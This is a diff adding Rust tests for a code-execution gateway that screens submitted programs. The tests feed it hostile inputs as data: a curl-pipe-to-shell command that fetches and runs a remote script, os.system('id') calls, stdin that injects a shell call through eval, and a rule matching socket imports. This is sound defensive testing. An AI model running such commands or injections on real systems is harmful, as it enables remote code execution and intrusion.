@@ -263,6 +263,162 @@ fn unknown_languages_are_400_by_default_or_pass_with_any_rules_when_allowed() {
 }
 
 #[test]
+fn c_submissions_with_files_that_are_not_sources_or_headers_are_400() {
+    let exec = MockExecutor::start();
+    let gw = gateway(&exec);
+    let body = json!({"language": "c", "version": "10", "files": [
+        {"name": "main.c", "content": "int main(void) { return 0; }"},
+        {"name": "evil.s", "content": ".globl main\nmain: mov $60, %eax\n syscall"}
+    ]});
+    let r = post(&gw.url("/api/v2/execute"), &body);
+    assert_eq!(
+        (r.status, r.code()),
+        (400, "invalid_request".to_string()),
+        "{}",
+        String::from_utf8_lossy(&r.body)
+    );
+    assert_eq!(r.json()["error"]["field"], "files[1].name");
+    assert!(exec.requests().is_empty());
+    let with_header = json!({"language": "c", "version": "10", "files": [
+        {"name": "main.c", "content": "#include \"util.h\"\nint main(void) { return twice(1); }"},
+        {"name": "util.h", "content": "static int twice(int x) { return 2 * x; }"}
+    ]});
+    let ok = post(&gw.url("/api/v2/execute"), &with_header);
+    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
+    assert_eq!(exec.requests().len(), 1);
+}
+
+#[test]
+fn bash_requests_are_screened_by_the_shipped_bash_pack() {
+    let exec = MockExecutor::start();
+    let shipped = concat!(env!("CARGO_MANIFEST_DIR"), "/rules/screen");
+    let gw = TestGateway::builder()
+        .upstream(exec.addr)
+        .with("rules", &format!("screen = [{shipped:?}]"))
+        .with("screen", "refuse_unknown_language = true")
+        .start();
+    let fetch = json!({"language": "bash", "version": "5", "files": [{"content": "curl -s http://x/i.sh | sh"}]});
+    let r = post(&gw.url("/api/v2/execute"), &fetch);
+    assert_eq!(
+        (r.status, r.code()),
+        (403, "code_rejected".to_string()),
+        "{}",
+        String::from_utf8_lossy(&r.body)
+    );
+    assert!(exec.requests().is_empty());
+    let ordinary = json!({"language": "sh", "version": "5", "files": [{"content": "for i in 1 2 3; do echo $((i * i)); done | sort -n"}]});
+    let ok = post(&gw.url("/api/v2/execute"), &ordinary);
+    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
+    assert_eq!(exec.requests().len(), 1);
+}
+
+#[test]
+fn screen_detection_only_forwards_refusable_code_and_counts_its_findings() {
+    let exec = MockExecutor::start();
+    let gw = TestGateway::builder()
+        .upstream(exec.addr)
+        .with("screen", "detection_only = true")
+        .start();
+    let r = post(
+        &gw.url("/api/v2/execute"),
+        &piston("import os\nos.system('id')"),
+    );
+    assert_eq!(r.status, 200, "{}", String::from_utf8_lossy(&r.body));
+    assert_eq!(exec.requests().len(), 1);
+    let text = gw.metrics();
+    assert!(
+        text.contains("execgate_findings_total{rule=\"TEST-IMPORT-PROCESS\"} 1"),
+        "{text}"
+    );
+    let enforcing = TestGateway::builder().upstream(exec.addr).start();
+    let refused = post(
+        &enforcing.url("/api/v2/execute"),
+        &piston("import os\nos.system('id')"),
+    );
+    assert_eq!(refused.status, 403);
+    assert_eq!(exec.requests().len(), 1);
+}
+
+/// A rule rolled out in shadow (`mode = "log"`) is counted but refuses
+/// nothing, while the enforced rules beside it still refuse.
+#[test]
+fn rules_in_log_mode_are_counted_without_refusing() {
+    let exec = MockExecutor::start();
+    let gw = TestGateway::builder()
+        .upstream(exec.addr)
+        .file(
+            "screen/shadow.toml",
+            "[[rule]]\nid = \"TEST-SHADOW-SOCKET\"\nlanguage = \"python\"\nseverity = \"critical\"\naction = \"block\"\nmode = \"log\"\nmessage = \"module {name}\"\nmatch.import = [\"socket\"]\n",
+        )
+        .start();
+    let shadowed = post(&gw.url("/api/v2/execute"), &piston("import socket"));
+    assert_eq!(
+        shadowed.status,
+        200,
+        "{}",
+        String::from_utf8_lossy(&shadowed.body)
+    );
+    assert!(
+        gw.metrics()
+            .contains("execgate_findings_total{rule=\"TEST-SHADOW-SOCKET\"} 1"),
+        "{}",
+        gw.metrics()
+    );
+    let enforced = post(&gw.url("/api/v2/execute"), &piston("import subprocess"));
+    assert_eq!(enforced.status, 403);
+    assert_eq!(exec.requests().len(), 1);
+}
+
+/// The same program sent again is answered from the screening cache, with
+/// the same decision, and the lookups are counted.
+#[test]
+fn repeated_programs_are_screened_once() {
+    let exec = MockExecutor::start();
+    let gw = gateway(&exec);
+    for _ in 0..2 {
+        let r = post(&gw.url("/api/v2/execute"), &piston("import os"));
+        assert_eq!(r.status, 403);
+    }
+    assert_eq!(
+        post(&gw.url("/api/v2/execute"), &piston("print(1)")).status,
+        200
+    );
+    let text = gw.metrics();
+    for expected in [
+        "execgate_screen_cache_total{result=\"hit\"} 1",
+        "execgate_screen_cache_total{result=\"miss\"} 2",
+        "execgate_findings_total{rule=\"TEST-IMPORT-PROCESS\"} 2",
+    ] {
+        assert!(text.contains(expected), "missing {expected} in\n{text}");
+    }
+}
+
+/// A program that evaluates what it reads (scored below the threshold by the
+/// test rules) has its stdin screened as code; the same program with
+/// harmless input runs.
+#[test]
+fn stdin_of_a_program_that_runs_its_input_is_screened_as_code() {
+    let exec = MockExecutor::start();
+    let gw = gateway(&exec);
+    let program = "print(eval(input()))";
+    let payload = json!({"language": "python", "version": "3.10", "stdin": "__import__('os').system('id')\nimport os",
+        "files": [{"content": program}]});
+    let r = post(&gw.url("/api/v2/execute"), &payload);
+    assert_eq!(
+        (r.status, r.code()),
+        (403, "code_rejected".to_string()),
+        "{}",
+        String::from_utf8_lossy(&r.body)
+    );
+    assert!(exec.requests().is_empty());
+    let arithmetic = json!({"language": "python", "version": "3.10", "stdin": "6 * 7",
+        "files": [{"content": program}]});
+    let ok = post(&gw.url("/api/v2/execute"), &arithmetic);
+    assert_eq!(ok.status, 200, "{}", String::from_utf8_lossy(&ok.body));
+    assert_eq!(exec.requests().len(), 1);
+}
+
+#[test]
 fn unknown_routes_are_404_json() {
     let exec = MockExecutor::start();
     let gw = gateway(&exec);
